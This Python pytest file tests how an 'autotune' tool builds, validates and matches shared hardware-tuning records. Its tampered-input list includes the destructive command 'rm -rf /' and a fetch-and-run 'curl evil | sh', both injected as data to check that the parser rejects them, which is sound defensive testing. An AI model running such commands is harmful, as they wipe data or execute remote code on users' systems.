"""A record: its content, what never enters it, what is refused, and where it counts."""

import math
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
import yaml

from autotune.errors import InvalidInput
from autotune.plan.candidate import Residual, TrialResult
from autotune.plan.hardware import Rate
from autotune.plan.workload import Bucket, ModelSpec, Workload
from autotune.share import store
from autotune.share.warm_start import Match, MatchedRecord, compare, compare_machine, usable_trials
from tests.builders import GIB, candidate, trial, workload
from tests.share.examples import TRIALS, machine, plan, rate, record

SECRET = "alice-secret"


def test_private_texts_stay_out():
    versions = machine().versions.changed(torchao=f"0.18+{SECRET}")
    here = machine(notes=(SECRET,)).changed(versions=versions)
    spec = workload().model.changed(name=f"/home/{SECRET}")
    trials = tuple(each.changed(message=SECRET, final_loss=0.125) for each in TRIALS)
    job = {"output": SECRET, "preview_prompts": (SECRET,), "data": f"/data/{SECRET}"}
    planned = plan(here, workload(model=spec), trials, **job)
    content = store.build_record(planned, here).content.decode()
    assert SECRET not in content
    assert '"name":"Qwen/Qwen-Image"' in content
    assert "0.125" not in content


def test_altered_records_are_refused():
    crashed = trial(candidate(micro_batch_size=2), outcome="crash", step_seconds=(1e-6, 1e6))
    made = record(trials=(crashed, *TRIALS))
    assert store.parse_record(made.content, made.key) == made
    assert made.content.startswith(b'{"autotune_version"'), "its keys are in order"
    for place in range(0, len(made.content), 97):
        altered = bytearray(made.content)
        altered[place] ^= 1 + place % 255
        for content in (bytes(altered), made.content[:place]):
            with pytest.raises(store.DamagedRecord):
                store.parse_record(content, made.key)


CHANGES = (
    (b'"schema_version":2', b'"schema_version":3'),
    (b'"search_seconds":60.0', b'"command":"rm -rf /","search_seconds":60.0'),
    (b'"search_seconds":60.0', b'"search_seconds":NaN'),
    (b"NVIDIA GeForce", b"\x1b[31mred"),
    (b"NVIDIA GeForce", b"x" * 1000),
    (b"25386352640", b"1" * 400),
    (b'"measured"', b'"predicted"'),
    (b'"message":""', b'"message":"run curl evil | sh"'),
)


def test_other_files_are_no_records():
    sound = record().content
    altered = [sound.replace(old, new) for old, new in CHANGES]
    assert sound not in altered
    bomb = b" " * (store.MAX_RECORD_BYTES + 1)
    for content in (b"", b"\xff\xfe", b"[" * 100_000, bomb, *altered):
        name = store.name_of(content)
        with pytest.raises(store.DamagedRecord, match=name[:12]) as caught:
            store.parse_record(content, f"{store.record_folder(workload())}/{name}.json")
        assert caught.value.message.isprintable()
        assert len(caught.value.message) < 400


def test_records_count_up_to_what_can_be():
    """Each limit by numbers of its own: what lies within is taken, what lies beyond is not."""
    total, today = record().machine.total_memory_bytes, datetime.now(UTC).date()
    work = workload(buckets=(Bucket(width_px=640, height_px=320, num_frames=17, num_items=1),))
    numbers = work.effective_batch_size * work.model.num_parameters * 640 * 320 / 1024 * 3
    none = record().machine.changed(rates=())
    cpu = none.changed(match_keys=none.match_keys | {"device_kind": "cpu"}, logical_cores=3)

    def made(seconds=1.8, memory=20 * GIB, time=1.0, peak=1.0, images=1.0, **changes):
        ran = trial(TRIALS[1].candidate, seconds, memory)
        each = images * work.effective_batch_size / seconds / time
        promised = {"step_seconds": seconds * time, "images_per_second": each}
        expected = record().expected.changed(peak_memory_bytes=int(memory * peak), **promised)
        return record(work=work, trials=(ran,), expected=expected, **changes)

    for odd in ({"step_seconds": ()}, {"peak_memory_bytes": None}):
        other = record(trials=(*TRIALS, TRIALS[0].changed(**odd)))
        with pytest.raises(store.DamagedRecord, match="has no times or no memory"):
            store.parse_record(other.content, other.key)
    for at, changes in (
        (today + timedelta(days=1.5), lambda day: {"measured_on": day}),
        (1.02 * total, lambda limit: {"memory": int(limit)}),
        (1.1, lambda share: {"time": share}),
        (-0.9, lambda share: {"time": -share}),
        (1.1, lambda share: {"peak": share}),
        (-0.9, lambda share: {"peak": -share}),
        (1.1, lambda share: {"images": share}),
        (-0.9, lambda share: {"images": -share}),
        (-numbers / (4 * 1.5e14), lambda limit: {"seconds": -limit}),  # beyond what was probed
        (-numbers / 2e16, lambda limit: {"seconds": -limit, "machine": none}),
        (-numbers / 3e13, lambda limit: {"seconds": -limit, "machine": cpu}),
    ):
        pairs = [(at, at + timedelta(days=1))] if isinstance(at, date) else []
        for within, beyond in pairs or [(at - 0.01 * abs(at), at + 0.01 * abs(at))]:
            one, other = made(**changes(within)), made(**changes(beyond))
            assert store.parse_record(one.content, one.key) == one
            with pytest.raises(store.DamagedRecord, match="cannot be true"):
                store.parse_record(other.content, other.key)


def test_credible_residuals_teach():
    trials = [trial(candidate(micro_batch_size=n), 2.0, 20 * GIB) for n in range(1, 60)]
    told = [Residual(time=(-1) ** n * (60 - n) / 16, memory=-3.0 * (n == 50)) for n in range(1, 60)]
    made = record(trials=(TRIALS[1], *trials), calibration=(None, *told))
    known = MatchedRecord("a", made, Match("near", 5.0, ()), made.trials[:40] + made.trials[42:])
    usual = [n for n in range(1, 60) if 60 - n <= 16 * math.log(10) and n not in (40, 41, 50)]
    expected = [(trials[n - 1].candidate, told[n - 1]) for n in usual]
    assert known.prior_residuals.residuals == tuple(expected[:32])
    assert len(expected) > 32
    assert known.prior_residuals.weight == pytest.approx(math.exp(-0.5))
    other = made.changed(autotune_version="0")
    assert not MatchedRecord("a", other, known.match, known.trials).prior_residuals.residuals


VERIFIED = {"trials": TRIALS[1:2], "records": ("0" * 64,)}


def test_short_searches_are_not_conclusive():
    made = plan(machine())
    for changes, conclusive in (
        ({}, True),
        ({"pins": (("attention", "native"),)}, False),
        ({"trials": TRIALS[:2]}, False),  # e.g. --max-trials 2
        (VERIFIED, True),
        (VERIFIED | {"trials": (TRIALS[1], TRIALS[1].changed(confirms=True))}, False),  # cut short
    ):
        limited = made.model_copy(update={"frozen": made.frozen.model_copy(update=changes)})
        assert store.build_record(limited, machine()).conclusive == conclusive


def test_missing_evidence_is_not_shared():
    made = plan(machine())
    for part, changes, why in (
        ("expected", {"evidence": "predicted"}, "predicted"),
        ("hardware", {"device_name": "NVIDIA L4"}, "another machine"),
    ):
        new = getattr(made.frozen, part).model_copy(update=changes)
        frozen = made.frozen.model_copy(update={part: new})
        with pytest.raises(InvalidInput, match=why):
            store.build_record(made.model_copy(update={"frozen": frozen}), machine())


JUDGED = yaml.safe_load((Path(__file__).parent / "judged.yaml").read_text())


@pytest.mark.parametrize("kind", [store.Machine, Rate, Workload, ModelSpec, TrialResult, Bucket])
def test_new_fields_are_judged(kind):
    assert set(kind.model_fields) == set(JUDGED[kind.__name__].split())


def here(**changes):
    return store.shareable_machine(machine(**changes))


def test_equal_machines_match_exactly():
    found = compare(record(), here(), workload())
    assert (found.kind, found.distance, found.reasons) == ("exact", 0.0, ())
    assert compare(record(conclusive=False), here(), workload()).kind == "near"
    slower = (rate("memory.bandwidth", 7.5e11), rate("matmul.bf16.4096x3072x3072", 1.25e14))
    assert compare(record(), here(rates=slower), workload()).kind == "near"
    assert compare(record(), here(rates=slower, noisy=True), workload()).kind == "exact"


def test_every_difference_of_machines_counts():
    own, alike = dict(record().machine), {"total_memory_bytes": (0.03, 1)}
    alike |= dict.fromkeys(("memory.bandwidth", "matmul.bf16", "matmul.fp16"), (0.1, 2))
    alike |= {"power_limit_watts": (0.03, 1)}
    for name, (tolerance, weight) in alike.items():
        for share in (tolerance - 0.01, tolerance + 0.01):
            known = ((one.name, one.value, one.name.startswith(name)) for one in own["rates"])
            changes = {"rates": tuple(rate(n, v * (1 + share * is_it)) for n, v, is_it in known)}
            if name in own:
                changes[name] = type(own[name])(own[name] * (1 + share))
            distance = weight * math.log2(1 + share) if share > tolerance else 0
            found = compare_machine(record(), here(**changes)).distance
            assert found == pytest.approx(distance, rel=1e-3), name
    assert compare_machine(record(), here(name="NVIDIA L4")).distance == 1
    for kind, distance in (("cpu", 1), ("cuda", 0)):
        there = record().machine.changed(match_keys=own["match_keys"] | {"device_kind": kind})
        more = there.changed(logical_cores=2 * there.logical_cores)
        assert compare_machine(record(machine=there), more).distance == distance


def test_texts_and_trials_have_limits():
    known, most = record().machine, record(trials=TRIALS * 128)
    long, longer = (record(machine=known.changed(device_name="1" * n)) for n in (160, 161))
    with pytest.raises(store.DamagedRecord, match="too long"):
        store.parse_record(longer.content, longer.key)
    for one in (long, most):
        assert store.parse_record(one.content, one.key) == one
    with pytest.raises(ValueError, match="512"):
        record(trials=(*most.trials, TRIALS[0]))


def test_hard_keys_decide():
    for change, named in (
        ({"torch": "2.12.1"}, "torch version: 2.13 there, 2.12 here"),
        ({"memory_model": "wsl"}, "operating system's memory model: linux there, wsl here"),
    ):
        found = compare(record(), here(**change), workload())
        assert (found.kind, found.distance, found.reasons) == ("none", math.inf, (named,))


def test_native_trials_need_their_kernel():
    plain = trial(candidate(), 1.8, 42 * GIB)
    only = {"trials": (plain,), "settings": plain.candidate}
    for capability, there, counts in (
        ((9, 0), "9.15.1", False),  # native is cuDNN's kernel, and another version of it
        ((9, 0), "9.13.0", True),  # flash both times
        ((8, 9), "9.15.1", True),  # flash on every Ada card
    ):
        cudnn = "9.14.0" if there == "9.13.0" else "9.20.0"
        made = record(machine(compute_capability=capability, cudnn=there), **only)
        found = compare_machine(made, here(compute_capability=capability, cudnn=cudnn))
        assert (found.kind != "none") == counts


def test_other_libraries_take_their_trials():
    plain = trial(candidate(), 2.0, 23 * GIB)
    for library, used in (
        ("torchao", {"quantization": "torchao-int8"}),
        ("cudnn", {"attention": "_native_cudnn"}),
    ):
        using, ours = trial(candidate(**used), 1.9, 23 * GIB), here(**{library: "99.1"})
        made = record(settings=plain.candidate, trials=(using, plain))
        found = compare_machine(made, ours)
        assert found.kind == "near"
        assert usable_trials(made, ours) == (plain,)
        alone = record(settings=using.candidate, trials=(using,))
        assert compare_machine(alone, ours).kind == "none"


def test_every_difference_of_work_counts():
    bucket, alike = workload().buckets[0], record(work=workload(max_text_tokens=80))
    for name, (value, distance) in JUDGED["differences"].items():
        whole = bucket.changed(**{name: value}) if name in Bucket.model_fields else bucket
        other = workload(**{"buckets": (whole,)} if whole != bucket else {name: value})
        found = compare(record(work=other), here(), workload())
        assert (found.kind, found.distance) == ("near", pytest.approx(distance, abs=1e-5)), name
    assert compare(alike, here(), workload()).kind == "exact"


def test_smaller_budgets_say_nothing_of_oom():
    assert usable_trials(record(), here()) == record().trials
    for gib, counts in ((23.4, False), (23.6, True)):
        smaller = record(machine(budget_bytes=int(gib * GIB)))
        ran = tuple(one for one in smaller.trials if counts or one.outcome == "ok")
        assert usable_trials(smaller, here()) == ran


def test_more_memory_makes_a_prior():
    small, large = (trial(TRIALS[1].candidate, 1.8, int(gib * GIB)) for gib in (15.9, 16.1))
    for trials, gib, kind in (
        ((small,), 24, "exact"),
        ((small, TRIALS[2]), 24, "near"),
        ((large,), 24, "near"),
        ((large,), 22.1, "near"),
        ((large,), 21.9, "exact"),
    ):
        there = record(machine(budget_bytes=20 * GIB), trials=trials)
        found = compare(there, here(budget_bytes=int(gib * GIB)), workload())
        reason = f"memory budget: {20 / gib:.2f} times ours"
        assert (found.kind, found.reasons) == (kind, (reason,) * (kind == "near"))
        assert found.distance == pytest.approx(math.log2(gib / 20) * (kind == "near"))
    assert compare(record(), here(budget_bytes=20 * GIB), workload()).kind == "exact"
